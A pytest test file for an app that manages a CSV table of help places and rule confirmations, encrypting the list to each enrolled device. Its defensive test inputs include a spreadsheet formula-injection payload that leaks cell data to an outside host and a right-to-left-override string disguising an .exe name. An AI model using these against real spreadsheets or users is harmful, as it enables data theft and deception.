"""Places of help and confirmed rules: a table whole or not at all, and sealed to each device."""

import csv
import io
import json
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from depter.desk.config import Config
from depter.desk.desk import Desk
from depter.desk.handbook.book import _read, handbook_id
from depter.desk.handbook.explain import fault_line
from depter.desk.handbook.places import (
    COLUMNS,
    Place,
    TableError,
    expires,
    practice_places,
    read_table,
    write_table,
)
from depter.envelope import BatchItem, H, ItemType, Kind, Return, decode, read_batch, unseal
from depter.errors import DeskError
from depter.forms.rules import rules
from depter.trust.entries import Role
from depter.words import translator
from tests.desk.conftest import PASSPHRASE, Clock, batch, secrets_of
from tests.desk.test_web import Browser, app, browser
from tests.worlds import Device, World

__all__ = ["app", "browser"]  # fixtures
TODAY = date(2026, 11, 18)
GOOD = {
    "name": "Clinic", "kinds": "medical social", "country": "KG", "region": "KG-O",
    "languages": "ky ru", "phone": "+996 1", "address": "", "hours": "", "cost": "free",
    "safe_for": "", "caution": "", "verified_by": "Aida", "verified_on": "2026-11-01",
    "agreed": "yes",
}  # fmt: skip


def table(*rows: dict[str, str], divider: str = ",") -> bytes:
    whole = [GOOD | row for row in rows]
    lines = [divider.join(f'"{row[one]}"' for one in COLUMNS) for row in whole]
    return "\r\n".join([divider.join(COLUMNS), *lines]).encode()


def faults(data: bytes) -> list[tuple[int, str, str]]:
    with pytest.raises(TableError) as caught:
        read_table(data, TODAY)
    words = translator("en")
    assert all(fault_line(one, words) for one in caught.value.faults)
    return [(one.line, one.code, one.column) for one in caught.value.faults]


@pytest.mark.parametrize("divider", [",", ";", "\t"])
def test_a_table_is_read_as_spreadsheets_write_it(divider: str) -> None:
    (place,) = read_table(b"\xef\xbb\xbf" + table({}, divider=divider) + b"\r\n\r\n", TODAY)
    assert place.kinds == ("medical", "social") and place.languages == ("ky", "ru") and place.agreed
    assert read_table(write_table([place]), TODAY) == [place]
    assert read_table(write_table([]), TODAY) == []


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x/?"&A1)', "+996 312 1", "-1+1", "@SUM(A1)", "'=1", "''+1", "'s"]
)
def test_no_cell_of_the_table_is_a_formula(name: str) -> None:
    [place] = read_table(table({"name": name.replace('"', '""')}), TODAY)
    told = replace(place, phone=name, caution=name)
    written = write_table([told]).decode("utf-8-sig")
    [row] = csv.DictReader(io.StringIO(written, newline=""))
    assert not {cell[:1] for cell in row.values()} & set("=+-@\t\r")
    assert read_table(written.encode(), TODAY) == [told]


@pytest.mark.parametrize(
    ("change", "code", "column"),
    [
        ({"verified_on": "1.11.2026"}, "places.date", "verified_on"),
        ({"verified_on": "2026-02-30"}, "places.date", "verified_on"),
        ({"verified_on": "2026-11-19"}, "places.future", "verified_on"),
        ({"verified_on": ""}, "places.missing", "verified_on"),
        ({"name": " "}, "places.missing", "name"),
        ({"name": "x" * 161}, "places.long", "name"),
        ({"name": "<b>Clinic</b>"}, "places.markup", "name"),
        ({"caution": "a&nbsp;b"}, "places.markup", "caution"),
        ({"name": "Clinic \u202egnp.exe"}, "places.signs", "name"),
        ({"phone": "+996\u200b1"}, "places.signs", "phone"),
        ({"hours": "9\x00"}, "places.signs", "hours"),
        ({"kinds": "medical magic"}, "places.code", "kinds"),
        ({"country": "FR", "region": ""}, "places.code", "country"),
        ({"region": "KZ-75"}, "places.code", "region"),
        ({"languages": "klingon"}, "places.code", "languages"),
        ({"cost": "cheap"}, "places.code", "cost"),
        ({"agreed": "maybe"}, "places.yes_no", "agreed"),
        ({"phone": "", "address": ""}, "places.reach", "phone"),
    ],
)
def test_a_wrong_line_is_told_by_its_number_and_its_own_reason(
    change: dict[str, str], code: str, column: str
) -> None:
    assert faults(table({"name": "Sound"}, change)) == [(3, code, column)]


def test_every_wrong_line_is_told_at_once() -> None:
    data = table({}, {"name": "  CLINIC "}, {"name": "B", "cost": "x", "agreed": ""})
    assert faults(data) == [
        (3, "places.twice", "name"),
        (4, "places.code", "cost"),
        (4, "places.yes_no", "agreed"),
    ]
    assert faults(b"")[0] == (1, "places.column", "name")
    assert (1, "places.column_unknown", "colour") in faults(table({}).replace(b"hours", b"colour"))
    assert faults(table({}) + b",more") == [(2, "places.cells", "")]


def test_a_table_that_is_no_text_or_no_end_is_refused() -> None:
    for data, code in (("Клиника".encode("cp1251"), "encoding"), (b"x" * 600_000, "large")):
        with pytest.raises(DeskError, match=f"places.{code}"):
            read_table(data, TODAY)
    many = table(*({"name": f"Place {n}"} for n in range(501)))
    with pytest.raises(DeskError, match=r"places\.large"):
        read_table(many, TODAY)


def test_a_check_counts_for_six_months() -> None:
    assert expires(date(2026, 8, 31)) == date(2027, 2, 28)
    assert expires(date(2026, 1, 15)) == date(2026, 7, 15)
    place = Place("A", ("legal",), "KG", verified_on="2026-05-18")
    assert not place.expired(TODAY) and place.expired(date(2026, 11, 19))


def test_the_invented_list_is_sound_whenever_it_is_used() -> None:
    for day in (date(2024, 2, 29), TODAY, date(2031, 1, 1)):
        places = practice_places(day)
        assert sum(one.expired(day) for one in places) == 1
        assert sum(not one.agreed for one in places) == 1
        assert all(one.name.startswith("Practice") for one in places)


def returns(desk: Desk, devices: set[bytes] | None = None) -> list[BatchItem]:
    """What the file for the phones holds of kind 7."""
    items = read_batch(b"".join(desk.export_acknowledgements(devices)))
    return [
        one
        for one in items
        if isinstance(one, BatchItem)
        and one.type == ItemType.ENVELOPE
        and decode(one.data).core.kind == Kind.RETURN
    ]


def test_it_is_sealed_to_each_device_and_says_nothing_to_the_relay(
    desk: Desk, world: World
) -> None:
    handbook = desk.handbook
    assert handbook.waiting() == [] and returns(desk) == []
    secret = Place(
        "Secret shelter", ("shelter",), "KZ", phone="+7 1", verified_by="A",
        verified_on="2026-11-01", agreed=True,
    )  # fmt: skip
    handbook.put_places([secret, Place(**vars(secret) | {"name": "Unwilling", "agreed": False})])
    handbook.confirm("KG.crime", "Lawyer  A.", "2026-11-02")
    devices = [one for one in world.devices if one is not world.supervisor]
    assert {one.kid for one in handbook.waiting()} == {one.keys.opening.kid for one in devices}
    assert handbook.send() == len(devices) and handbook.waiting() == []
    found = [decode(one.data) for one in returns(desk)]
    assert {one.core.recipients[0] for one in found} == {one.keys.opening.kid for one in devices}
    for envelope in found:
        assert envelope.core.record == handbook_id(world.org) and envelope.core.revision == 1
        assert b"Secret" not in envelope.data
        reader = next(one for one in devices if one.keys.opening.kid in envelope.core.recipients)
        text = Return.decode(unseal(envelope, reader.keys.opening)).comments
        assert envelope.core.previous_revision == H(text)
        told = json.loads(text)
        assert [one["name"] for one in told["places"]] == ["Secret shelter"]
        assert told["confirmed"] == [
            {"rule_id": "KG.crime", "verified_by": "Lawyer A.", "verified_on": "2026-11-02"}
        ]
    only = returns(desk, {devices[0].keys.signing.id})
    assert [decode(one.data).core.recipients for one in only] == [(devices[0].keys.opening.kid,)]
    handbook.check(secret, "Boris")
    assert handbook.send() == len(devices) and handbook.book.serial == 2
    assert handbook.book.places[0].verified_by == "Boris"


@pytest.fixture
def theirs(world: World, clock: Clock, tmp_path: Path) -> Iterator[Desk]:
    """The desk of another member, with the same list of members."""
    other = next(one for one in world.devices if one is not world.supervisor)
    config = Config(folder=tmp_path / "other", pull_seconds=0)
    with Desk.create(
        config, PASSPHRASE, secrets_of(world, other), now=clock, random_bytes=world.random_bytes
    ) as made:
        for entry in world.directory.entries:
            made.replica.take(entry)
        yield made


def test_another_desk_goes_on_with_the_same_list(desk: Desk, theirs: Desk, world: World) -> None:
    desk.handbook.put_places(practice_places(TODAY))
    desk.handbook.send()
    theirs.import_batch(b"".join(desk.export_acknowledgements()))
    book = theirs.handbook.book
    assert book.serial == 1 and len(book.places) == 7 and theirs.handbook.waiting() == []
    theirs.handbook.put_places(book.places[:2])
    desk.handbook.remove(book.places[0])
    desk.handbook.send()
    theirs.import_batch(b"".join(desk.export_acknowledgements()))
    newer = theirs.handbook.newer()
    assert newer is not None and newer.serial == 2
    assert len(theirs.handbook.book.places) == 2  # what is unsent there stays
    theirs.handbook.take_theirs()
    assert len(theirs.handbook.book.places) == 6 and theirs.handbook.newer() is None
    # What has not agreed yet was never sent: no list of another desk takes it away.
    waiting = replace(book.places[0], name="Asked, no answer yet", agreed=False)
    theirs.handbook.add(waiting)
    theirs.handbook.send()
    for _ in range(2):
        desk.import_batch(b"".join(theirs.export_acknowledgements()))
        desk.handbook.remove(desk.handbook.book.places[0])
        desk.handbook.send()
        theirs.import_batch(b"".join(desk.export_acknowledgements()))
        assert waiting in theirs.handbook.book.places
        assert waiting not in desk.handbook.book.places


def sealed_to(desk: Desk, device: Device) -> list[tuple[int, list[str]]]:
    """The lists that were sealed to a device, by their number, as it would read them."""
    kid, found = device.keys.opening.kid, []
    for one in (decode(item.data) for item in returns(desk)):
        if kid in one.core.recipients:
            told = json.loads(Return.decode(unseal(one, device.keys.opening)).comments)
            found.append((one.core.revision or 0, [place["name"] for place in told["places"]]))
    return found


def test_a_device_that_comes_later_gets_the_list_by_itself_and_nobody_else(
    desk: Desk, world: World
) -> None:
    def visit() -> None:
        desk.import_batch(batch(world, []))

    lost = world.add(Role.INTERVIEWER, "Lost")
    visit()
    assert returns(desk) == []  # no list was ever sent: nothing goes by itself
    clinic, shelter = (replace(practice_places(TODAY)[0], name=name) for name in ("A", "B"))
    desk.handbook.put_places([clinic, shelter])
    visit()
    assert returns(desk) == []
    desk.handbook.send()
    world.revoke(lost)
    late, gone = world.add(Role.INTERVIEWER, "Late"), world.add(Role.INTERVIEWER, "Gone")
    world.revoke(gone)
    visit()
    assert sealed_to(desk, late) == [(1, ["A", "B"])] and sealed_to(desk, gone) == []
    assert desk.handbook.waiting() == []
    visit()
    assert len(sealed_to(desk, late)) == 1  # once
    # What a person took out and has not sent yet goes nowhere by itself, in no older list either.
    desk.handbook.remove(shelter)
    later = world.add(Role.INTERVIEWER, "Later")
    visit()
    assert sealed_to(desk, later) == []
    desk.handbook.send()
    assert sealed_to(desk, later) == [(2, ["A"])]
    assert len(sealed_to(desk, lost)) == 1  # what it had before it was lost, and nothing since


def test_every_desk_that_has_the_list_sends_it_to_who_comes_later(
    desk: Desk, theirs: Desk, world: World
) -> None:
    desk.handbook.put_places(practice_places(TODAY)[:1])
    desk.handbook.send()
    theirs.import_batch(batch(world, []) + b"".join(desk.export_acknowledgements()))
    assert returns(theirs) == []
    late = world.add(Role.INTERVIEWER, "Late")
    theirs.import_batch(batch(world, []))
    [(serial, names)] = sealed_to(theirs, late)
    assert serial == 1 and names == [practice_places(TODAY)[0].name]
    # Where it is seen that another desk has done it, it is not done again.
    last = world.add(Role.INTERVIEWER, "Last")
    desk.import_batch(batch(world, []))
    assert len(sealed_to(desk, last)) == 1
    theirs.import_batch(batch(world, []) + b"".join(desk.export_acknowledgements()))
    assert theirs.handbook.waiting() == []


@pytest.mark.parametrize(
    ("rule", "by", "on", "code"),
    [
        ("KG.nothing", "A lawyer", "2026-11-01", "rules.unknown"),
        ("KG.crime", " ", "2026-11-01", "rules.who"),
        ("KG.crime", "A\u202eB", "2026-11-01", "rules.who"),
        ("KG.crime", "A lawyer", "yesterday", "rules.day"),
        ("KG.crime", "A lawyer", "2031-01-01", "rules.day"),
    ],
)
def test_nobody_confirms_a_rule_without_a_name_and_a_day(
    desk: Desk, rule: str, by: str, on: str, code: str
) -> None:
    with pytest.raises(DeskError, match=code):
        desk.handbook.confirm(rule, by, on)
    assert desk.handbook.book.confirmed == ()


def test_the_pages_from_a_wrong_table_to_the_devices(browser: Browser, desk: Desk) -> None:
    browser.unlock()
    page = browser.get("/help").text
    assert "The list is empty" in page and "cannot read it" in page
    bad = (open_file(table({}, {"name": "B", "verified_on": "soon"})), "places.csv")
    answer = browser.post("/help/table", file=bad).text
    assert "Nothing was changed" in answer and "Line 3: Checked on: &#34;soon&#34;" in answer
    assert browser.get("/help").text.count("<article") == 0
    browser.post("/help/table", file=(open_file(table({})), "places.csv"))
    page = browser.get("/help").text
    assert page.count("<article") == 1 and "devices have not got this yet" in page
    typed: dict[str, Any] = {**GOOD, "name": "House <b>", "kinds": ["shelter"], "languages": ["ky"]}
    answer = browser.post("/help/add", **typed).text
    assert "without signs of web pages" in answer and 'value="House &lt;b&gt;"' in answer
    browser.post(
        "/help/add", **{**typed, "name": "House", "verified_on": "2026-02-01", "agreed": ""}
    )
    page = browser.get("/help").text
    assert "Not checked since" in page and "stays at this desk" in page
    assert page.index("Clinic") < page.index("House")  # what has run out comes last
    names = [one.name for one in desk.handbook.book.places]
    browser.post(f"/help/place/{names.index('House')}", name="Other", what="remove")
    assert len(desk.handbook.book.places) == 2
    browser.post(f"/help/place/{names.index('House')}", name="House", what="check")
    assert "Not checked since" not in browser.get("/help").text
    browser.post("/help/send")
    assert "is sealed to every device" in browser.get("/help").text
    assert b"Clinic" in browser.get("/help/table.csv").data
    log = browser.get("/log").text
    assert "Changed the places of help" in log and "Sent places of help" in log


def test_the_page_of_rules_says_unverified_until_a_lawyer_signs(browser: Browser) -> None:
    browser.unlock()
    page = browser.get("/help/rules").text
    assert page.count("Unverified: no lawyer has confirmed it") == len(rules())
    browser.post("/help/rules/KG.crime", by="A. Lawyer", on="2026-11-01")
    page = browser.get("/help/rules").text
    assert "Confirmed by A. Lawyer" in page
    assert page.count("Unverified: no lawyer has confirmed it") == len(rules()) - 1
    browser.post("/help/rules/KG.crime", what="doubt")
    assert "Confirmed by" not in browser.get("/help/rules").text


def open_file(data: bytes) -> BytesIO:
    return BytesIO(data)


@pytest.mark.parametrize(
    ("part", "change"),
    [
        ("places", {"verified_on": "soon"}),
        ("places", {"name": 7}),
        ("places", {"kinds": [None]}),
        ("places", {"agreed": "yes"}),
        ("places", {"caution": "a\u202eb"}),
        ("confirmed", {"verified_on": "soon"}),
        ("confirmed", {"verified_by": ["x"]}),
    ],
)
def test_a_list_of_another_desk_that_no_page_can_show_is_not_taken(
    part: str, change: dict[str, object]
) -> None:
    place = {**GOOD, "kinds": ["medical"], "languages": ["ky"], "agreed": True}
    rule = {"rule_id": "KG.crime", "verified_by": "A", "verified_on": "2026-11-02"}
    told: dict[str, Any] = {"v": 1, "serial": 1, "at": "2026-11-18T11:06:40Z"}
    told |= {"places": [place], "confirmed": [rule]}
    assert _read(json.dumps(told)) is not None
    told[part] = [told[part][0] | change]
    assert _read(json.dumps(told)) is None


def test_a_name_with_signs_that_nobody_sees_costs_no_list(desk: Desk) -> None:
    """A pasted name often has them: whoever checked a place must not make the list unreadable."""
    handbook = desk.handbook
    handbook.put_places(practice_places(handbook.today))
    handbook.check(handbook.book.places[0], "Ай\u200eгүл\u00ad Бек")
    assert handbook.book.places[0].verified_by == "Айгүл Бек"
